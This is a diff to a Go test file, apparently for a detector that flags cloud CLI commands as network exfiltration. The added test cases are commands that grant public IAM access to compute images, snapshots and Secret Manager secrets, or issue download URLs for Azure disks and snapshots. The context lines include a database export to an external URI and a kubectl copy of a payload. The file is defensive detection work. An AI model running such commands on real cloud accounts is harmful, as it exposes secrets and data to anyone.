@@ -179,6 +179,16 @@ func TestCloudDataExposed(t *testing.T) {
 		{"az sql db export --server s --resource-group rg --name appdb --storage-uri https://example.com/page --storage-key-type SharedAccessKey --storage-key 10 --admin-user alice --admin-password hunter2", NetworkExfiltration},
 		{"kubectl cp /tmp/my demo/some-pod:/tmp/server", NetworkExfiltration},
 		{"kubectl cp -n demo ./payload some-pod:/tmp/payload", NetworkExfiltration},
+		// The same grant on the other data-holding resources (compute
+		// images, snapshots and disks, secrets, topics: each group's
+		// add-iam-policy-binding reference), and a disk or snapshot given
+		// a download URL (az disk|snapshot grant-access, az reference).
+		{"gcloud compute images add-iam-policy-binding img --member=allAuthenticatedUsers --role=roles/compute.imageUser", NetworkExfiltration},
+		{"gcloud compute snapshots add-iam-policy-binding snap --member=allUsers --role=roles/compute.storageAdmin", NetworkExfiltration},
+		{"gcloud secrets add-iam-policy-binding db-pass --member=allUsers --role=roles/secretmanager.secretAccessor", NetworkExfiltration},
+		{"az snapshot grant-access --resource-group rg --name snap --duration-in-seconds 3600", NetworkExfiltration},
+		{"az disk grant-access --resource-group rg --name osdisk --duration-in-seconds 3600 --access-level Read", NetworkExfiltration},
+		{"az snapshot revoke-access --resource-group rg --name snap", ""},
 		{"kubectl cp demo/some-pod:/tmp/server /tmp/my", ""},
 		{"gcloud pubsub subscriptions create demo --topic demo --push-endpoint https://https://example.com/page", ""},
 		{"gcloud pubsub subscriptions create demo --topic demo", ""},
